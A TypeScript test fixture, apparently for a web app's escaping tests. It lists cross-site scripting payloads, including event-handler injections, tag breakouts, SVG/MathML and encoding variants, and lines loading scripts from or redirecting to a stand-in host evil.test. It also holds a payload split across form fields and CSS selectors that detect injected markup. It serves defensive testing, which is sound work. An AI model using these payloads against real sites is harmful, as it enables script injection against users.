/** What people have put into names and notes to have a reader's browser run it, or load something, or go elsewhere. */
export const PAYLOADS: readonly string[] = [
  // Attributes, and ways out of one.
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "' autofocus onfocus=hit() x='",
  '" onmouseover="hit()" style="position:fixed;inset:0" x="',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<body onload=hit()>',
  '<img/src=x\tonerror\n=hit()>',
  // Elements that run, load or lead away.
  '</title><script>hit()</script>',
  '</script><script>hit()</script>',
  '<script src=//evil.test/x.js></script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</textarea><iframe srcdoc="<script>parent.hit()</script>">',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test/x)}</style>',
  '<form action=//evil.test><button>Go</button></form>',
  '<!--><script>hit()</script>-->',
  // SVG and MathML, whose rules are other than HTML's.
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a>',
  '<svg><foreignObject><iframe src=javascript:hit()>',
  '<math><mtext></p><img src=x onerror=hit()>',
  // Addresses.
  'javascript:hit()',
  'JaVaScRiPt://%0ahit()',
  '<a href="java&#x09;script:hit()">x</a>',
  'data:text/html,<script>parent.hit()</script>',
  // Templates and strings of programs.
  "{{constructor.constructor('hit()')()}}",
  '$' + '{hit()}',
  '<%= hit() %>',
  "';hit();//",
  '\\";hit();//',
  // Other ways to write the same.
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#x3c;img src=x onerror=hit()&#x3e;',
  '\\u003cimg src=x onerror=hit()\\u003e',
  '＜script＞hit()＜/script＞',
  '<ıframe src=javascript:hit()>',
]

/** Markup that comes about only where fields stand side by side. */
export const BROKEN_OVER_FIELDS = {
  short_name: 'Broken <img src=x ',
  company_name: ' onerror=hit() x=',
  addressline1: '> <!--',
  addressline2: '--><script>',
  city: 'hit()',
  state: '</script>',
} as const

/** Elements that a page would hold had it read any of them as markup. Its own scripts all have an address. */
export const STRAYS = [
  ...[
    'img[src="x"]',
    'object',
    'embed',
    'base',
    'math',
    'foreignObject',
    'animate',
    'body details[ontoggle]',
  ],
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'srcdoc'].map(
    (name) => `[${name}]`,
  ),
  ...['href', 'src', 'action', 'content', 'data'].flatMap((name) =>
    ['evil.test', 'javascript:', 'script:hit'].map((text) => `[${name}*="${text}" i]`),
  ),
  'script:not([src]):not([type])',
].join(', ')
